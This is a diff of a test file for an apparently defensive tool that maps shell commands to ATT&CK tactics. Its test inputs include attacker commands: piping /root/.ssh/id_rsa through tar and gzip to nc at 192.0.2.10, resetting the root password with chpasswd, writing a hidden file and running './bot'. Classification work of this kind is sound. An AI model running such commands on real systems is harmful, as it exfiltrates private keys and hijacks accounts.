@@ -164,10 +164,9 @@ describe('a session of statements', () => {
       ['chpasswd |', 'persistence'],
       ['bash ;', 'persistence'],
     ]);
-    expect(techniques.map(({ id, confidence }) => [id, confidence])).toEqual([
-      ['T1082', 0.82],
-      ['T1098', 0.72],
-      ['T1083', 0.3],
+    expect(techniques.slice(0, 2).map(({ id, rule }) => [id, rule])).toEqual([
+      ['T1082', 'system-files'],
+      ['T1098', 'password-change'],
     ]);
   });
 
@@ -187,5 +186,41 @@ describe('a session of statements', () => {
       'command-and-control',
       'command-and-control',
     ]);
+  });
+
+  it('is as sure of the second thing it does as of the first', () => {
+    const { techniques } = mapper.mapSession(['cat /proc/cpuinfo', 'echo root:x | chpasswd']);
+    const alone = mapper.mapSession(['echo root:x | chpasswd']).techniques[0];
+    expect(techniques.find(({ id }) => id === 'T1098')).toEqual(alone);
+  });
+
+  it('gives the whole of a pipeline that sends data away to exfiltration', () => {
+    const { statements } = mapper.mapSession(['tar cf - /root/.ssh/id_rsa |', 'gzip -c |', 'nc 192.0.2.10 5678']);
+    expect(statements.map(({ tactic }) => tactic)).toEqual(['exfiltration', 'exfiltration', 'exfiltration']);
+  });
+
+  it('takes writing a file for part of what was done before, and reading one for looking', () => {
+    const { statements } = mapper.mapSession([
+      'echo root:x | chpasswd',
+      'echo 321 > /var/tmp/.var',
+      'cat /var/tmp/.var',
+      './bot',
+    ]);
+    expect(statements.map(({ tactic }) => tactic)).toEqual(['persistence', 'persistence', 'discovery', 'execution']);
+  });
+});
+
+describe('a command that no rule knows', () => {
+  it('gets a hint of the learned ranker, marked as such and never sure', () => {
+    const hinted = mapper
+      .mapSession(['unknowntool --steal /root/.ssh/id_rsa /home/bob/.ssh/id_rsa'])
+      .techniques.filter(({ rule }) => rule.startsWith('learned-ranker'));
+    for (const { confidence } of hinted) expect(confidence).toBeLessThanOrEqual(0.5);
+    expect(mapper.mapCommandLine('zzqx vvkk')).toEqual([{ text: 'zzqx vvkk', tactic: null, techniques: [] }]);
+  });
+
+  it('gets nothing when rules stand alone', () => {
+    const alone = createAttackMapper({ ranker: null });
+    expect(alone.mapSession(['zsteg-like --hidden a.png']).techniques).toEqual([]);
   });
 });
